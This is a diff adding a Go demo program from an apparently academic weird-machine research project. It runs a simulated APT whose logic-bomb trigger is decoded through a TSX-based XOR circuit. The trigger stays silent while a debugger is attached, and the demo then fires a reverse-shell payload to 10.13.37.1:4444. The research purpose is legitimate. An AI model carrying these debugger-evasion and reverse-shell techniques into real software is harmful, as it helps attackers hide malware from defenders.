@@ -1,0 +1,82 @@
+// Logic bomb / weird obfuscation demo (paper §5.1): a simulated APT
+// whose trigger decoding runs on a TSX weird XOR circuit. The defender
+// watches the full architectural state the whole time and sees nothing
+// until the payload is already running — and attaching a debugger
+// makes the trigger undecodable.
+//
+//	go run ./examples/logicbomb
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"uwm/internal/analyzer"
+	"uwm/internal/wmapt"
+)
+
+func main() {
+	env := wmapt.NewEnv()
+	apt, err := wmapt.New(env, wmapt.Options{Seed: 1337})
+	if err != nil {
+		log.Fatal(err)
+	}
+	obs := analyzer.Attach(apt.Machine(), 200_000)
+
+	trigger, err := apt.Install(wmapt.ReverseShell{Addr: "10.13.37.1", Port: 4444})
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println("APT installed; trigger:", trigger.PingPattern())
+	fmt.Println("environment before:", env.Snapshot())
+
+	// Phase 1: wrong triggers under passive observation — silence.
+	wrong := trigger
+	wrong[3] ^= 0x80
+	for i := 0; i < 3; i++ {
+		res, err := apt.HandlePing(wrong)
+		if err != nil {
+			log.Fatal(err)
+		}
+		if res != nil {
+			log.Fatal("fired on a wrong trigger!")
+		}
+	}
+	fmt.Printf("\n3 wrong pings processed (each = %d weird 160-bit XOR transforms)\n", wmapt.DefaultEvalMultiple)
+	fmt.Println("architectural 'xor' instruction seen by the analyzer:", obs.ExecutedOpcode("xor"))
+	fmt.Println("environment still:", env.Snapshot())
+
+	// Phase 2: the defender attaches a debugger. Even the CORRECT
+	// trigger cannot decode, because observation aborts the gate
+	// transactions.
+	obs.Observe(true)
+	for i := 0; i < 3; i++ {
+		res, err := apt.HandlePing(trigger)
+		if err != nil {
+			log.Fatal(err)
+		}
+		if res != nil {
+			log.Fatal("fired while being debugged!")
+		}
+	}
+	fmt.Println("\n3 CORRECT pings under an attached debugger: still silent (observation destroys the circuit)")
+	obs.Observe(false)
+
+	// Phase 3: debugger detached, correct trigger delivered until the
+	// weird XOR decodes all 160 bits.
+	for {
+		res, err := apt.HandlePing(trigger)
+		if err != nil {
+			log.Fatal(err)
+		}
+		if res != nil {
+			fmt.Printf("\npayload fired after %d pings total:\n", res.PingsReceived)
+			for _, e := range res.Events {
+				fmt.Println("  ", e)
+			}
+			break
+		}
+	}
+	fmt.Println("environment after:", env.Snapshot())
+	fmt.Println("\nforensics:", obs.Report())
+}
